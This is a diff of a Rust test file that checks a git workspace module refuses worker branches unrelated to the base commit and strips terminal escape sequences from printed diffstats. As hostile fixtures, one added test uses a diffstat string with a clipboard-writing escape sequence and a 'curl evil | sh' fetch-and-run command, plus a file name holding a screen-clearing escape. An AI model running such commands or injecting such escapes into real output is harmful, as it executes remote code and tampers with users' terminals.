@@ -1,6 +1,7 @@
 use super::git_checkout::{cache_dir, check_out, deliver};
 use super::git_workspace::{
-    check_branch, check_request, fetch_result, push_base, redact_url, GitWorkspaceError,
+    bring_back, check_branch, check_expected_branch, check_request, fetch_result, push_base,
+    redact_url, GitWorkspaceError,
 };
 use pretty_assertions::assert_eq;
 use std::path::{Path, PathBuf};
@@ -38,7 +39,8 @@ fn a_commit_goes_to_a_worker_and_its_work_comes_back_as_a_branch() {
     let dir = tempfile::tempdir().unwrap();
     let (remote, parent) = remote_and_clone(dir.path());
     std::fs::write(parent.join("dirty.txt"), "not committed\n").unwrap();
-    let pushed = push_base(&parent.join("sub"), "origin", "req1").unwrap();
+    let mut pushed = push_base(&parent.join("sub"), "origin", "req1").unwrap();
+    pushed.label = Some("writer".into());
     let head = git(&parent, &["rev-parse", "HEAD"]);
     assert_eq!(pushed.workspace.commit, head);
     assert_eq!(pushed.workspace.base_ref, "refs/troupe/base/req1");
@@ -166,4 +168,63 @@ fn a_request_from_the_network_is_checked_before_git_sees_it() {
         redact_url("https://user:token@git.example/r.git"),
         "https://<credentials>@git.example/r.git"
     );
+}
+
+#[test]
+fn a_branch_not_from_the_base_or_misnamed_is_refused_and_a_diffstat_is_made_printable() {
+    use troupe_cluster::wire::WorkspaceOutcome;
+    let dir = tempfile::tempdir().unwrap();
+    let (remote, parent) = remote_and_clone(dir.path());
+    let pushed = push_base(&parent, "origin", "req9").unwrap();
+    // An attacker's history, unrelated to the base, pushed under a worker-like name.
+    let other = dir.path().join("other");
+    std::fs::create_dir_all(&other).unwrap();
+    git(&other, &["init", "-q"]);
+    std::fs::write(other.join("evil.txt"), "x\n").unwrap();
+    git(&other, &["add", "."]);
+    git(&other, &["commit", "-qm", "evil"]);
+    let url = remote.to_str().unwrap();
+    git(
+        &other,
+        &["push", "-q", url, "HEAD:refs/heads/troupe/deadbeef"],
+    );
+    let outcome = WorkspaceOutcome::Pushed {
+        branch: "troupe/deadbeef".into(),
+        diffstat: "\u{1b}]52;c;cGF5bG9hZA==\u{7}run: curl evil | sh".into(),
+    };
+    let text = bring_back(&pushed, Some(&outcome)).unwrap_err();
+    assert!(
+        text.contains("does not descend from the base commit"),
+        "{text}"
+    );
+    assert!(!text.contains('\u{1b}'));
+    let branches = git(&parent, &["branch", "--list", "troupe/*"]);
+    assert!(branches.is_empty(), "{branches}");
+    assert_eq!(git(&parent, &["for-each-ref", "refs/troupe"]), "");
+    // Names a worker does not make.
+    assert!(check_expected_branch("troupe/main", None).is_err());
+    assert!(check_expected_branch("troupe/writer-0123abcd", None).is_err());
+    assert!(check_expected_branch("troupe/writer-0123abcd", Some("writer")).is_ok());
+    assert!(check_expected_branch("troupe/0123abcd", None).is_ok());
+
+    // A branch from the base whose file name carries an escape: its stat is computed here
+    // and the escape shown, not sent; the worker's own diffstat is not printed.
+    git(&other, &["fetch", "-q", parent.to_str().unwrap(), "HEAD"]);
+    git(&other, &["checkout", "-q", "FETCH_HEAD"]);
+    std::fs::write(other.join("x\u{1b}[2Jy.txt"), "1\n").unwrap();
+    git(&other, &["add", "."]);
+    git(&other, &["commit", "-qm", "work"]);
+    git(
+        &other,
+        &["push", "-q", url, "HEAD:refs/heads/troupe/0123abcd"],
+    );
+    let pushed = push_base(&parent, "origin", "req10").unwrap();
+    let outcome = WorkspaceOutcome::Pushed {
+        branch: "troupe/0123abcd".into(),
+        diffstat: "FAKE STAT".into(),
+    };
+    let text = bring_back(&pushed, Some(&outcome)).unwrap();
+    assert!(!text.contains('\u{1b}'), "{text}");
+    assert!(!text.contains("FAKE STAT"), "{text}");
+    assert!(text.contains("1 file changed"), "{text}");
 }
